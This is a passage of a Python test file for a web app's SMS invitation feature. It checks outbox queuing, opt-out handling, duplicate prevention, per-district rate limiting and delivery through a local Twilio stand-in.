    assert fresh.id != old.id and fresh.status(utcnow()) == "active" and links == [f"{BASE_URL}/e/{fresh.code}"]
    assert audit("district.codes_renewed")[0].details["members"] == 1


# --- SMS invitations ---------------------------------------------------------------------------

def _invite(client, member_ids=None):
    body = {} if member_ids is None else {"member_ids": member_ids}
    return client.post("/api/district/invitations/sms", json=body)


def test_sms_invitations_go_through_the_dispatcher_to_the_outbox_and_honour_stop(as_manager, world):
    imported(as_manager, GOOD)
    found = members()
    db.session.add(SmsOptOut(phone=found["BID-005"].phone))  # texted STOP earlier
    db.session.commit()
    response = _invite(as_manager)
    assert response.status_code == 202, response.json
    assert response.json["queued"] == 4 and response.json["skipped_opted_out"] == 1
    assert response.json["skipped_no_phone"] == 1 and response.json["skipped_enrolled"] == 0
    assert response.json["sms_mode"] == "outbox" and "NOT being sent" in response.json["message"]
    rows = list(db.session.scalars(sa.select(Notification)))
    assert len(rows) == 4 and {n.kind for n in rows} == {NotificationKind.INVITATION}
    assert all(n.ask_id is None and n.status == DeliveryStatus.PENDING for n in rows)
    # One of them texts STOP before the worker runs: that one is not sent.
    db.session.add(SmsOptOut(phone=found["BID-003"].phone))
    db.session.commit()
    report = delivery.deliver([n.id for n in rows])
    assert report.sent == 3 and report.skipped == 1
    messages = {m.to_number: m for m in db.session.scalars(sa.select(SmsMessage))}
    assert set(messages) == {found[r].phone for r in ("BID-001", "BID-002", "BID-006")}
    for ref in ("BID-001", "BID-002", "BID-006"):
        member = members()[ref]
        message = messages[member.phone]
        code = db.session.get(EnrollmentCode, member.enrollment_code_id).code
        assert message.status == "outbox" and message.provider_sid is None
        assert f"{BASE_URL}/e/{code}" in message.body and f"{code[:4]}-{code[4:]}" in message.body
        assert member.business_name in message.body and "Downtown BID" in message.body and "STOP" in message.body
        assert member.sms_sent_at is not None and member.invited_at is not None
    assert members()["BID-003"].sms_sent_at is None
    # Nobody is texted twice by "invite everyone".
    again = _invite(as_manager).json
    assert again["queued"] == 0 and again["skipped_already_invited"] == 3 and again["skipped_opted_out"] == 2
    (event, _) = audit("district.invitations_queued")
    assert event.details["queued"] == 4 and event.details["skipped_opted_out"] == 1


def test_sms_invitations_for_chosen_members(app, as_manager):
    imported(as_manager, GOOD)
    found = members()
    joe, sam = found["BID-001"], found["BID-004"]
    joe.owner_id = factories.user(Role.OWNER).id  # enrolled already
    db.session.commit()
    result = _invite(as_manager, [joe.id, sam.id, found["BID-002"].id]).json
    assert (result["queued"], result["skipped_enrolled"], result["skipped_no_phone"]) == (1, 1, 1)
    # Chosen again while the first is still waiting: not queued twice.
    assert _invite(as_manager, [found["BID-002"].id]).json["skipped_already_invited"] == 1
    delivery.deliver(list(db.session.scalars(sa.select(Notification.id))))
    # Sent: an explicit choice may text the member again.
    assert _invite(as_manager, [found["BID-002"].id]).json["queued"] == 1
    error(_invite(as_manager, [999_999]), 404, "not_found")
    assert _invite(as_manager, []).status_code == 422
    assert _invite(as_manager, ["x"]).status_code == 422


def test_sms_invitations_are_rate_limited_per_district(app, as_manager):
    imported(as_manager, GOOD)
    app.config["DISTRICT_SMS_PER_HOUR"] = 3
    found = members()
    response = _invite(as_manager)  # five members have a number
    message = error(response, 429, "sms_rate_limited")
    assert "3 SMS invitations an hour" in message and "would send 5" in message
    assert response.headers["Retry-After"] == "3600"
    assert count(Notification) == 0
    assert _invite(as_manager, [found["BID-001"].id, found["BID-002"].id]).json["queued"] == 2
    response = _invite(as_manager, [found["BID-003"].id, found["BID-005"].id])
    message = error(response, 429, "sms_rate_limited")
    assert "has 1 left" in message
    assert 3000 < int(response.headers["Retry-After"]) <= 3600
    assert _invite(as_manager, [found["BID-003"].id]).json["queued"] == 1
    assert count(Notification) == 3


def test_sms_invitations_through_the_real_twilio_client(make_app):
    with LocalTwilio() as twilio:
        app = make_app(**twilio.config())
        with app.app_context():
            world = factories.World.build()
            manager = signed_in(app, world.manager)
            imported(manager, GOOD)
            assert _invite(manager).json["sms_mode"] == "twilio"
            ids = list(db.session.scalars(sa.select(Notification.id)))
            assert delivery.deliver(ids).sent == 5
            assert len(twilio.messages) == 5
            assert all("/e/" in m.body and m.status_callback for m in twilio.messages)
            sids = {r.provider_sid for r in db.session.scalars(sa.select(SmsMessage))}
            assert sids == {m.sid for m in twilio.messages}
            sms.close(app)
            db.session.remove()
    assert not twilio.errors, twilio.errors

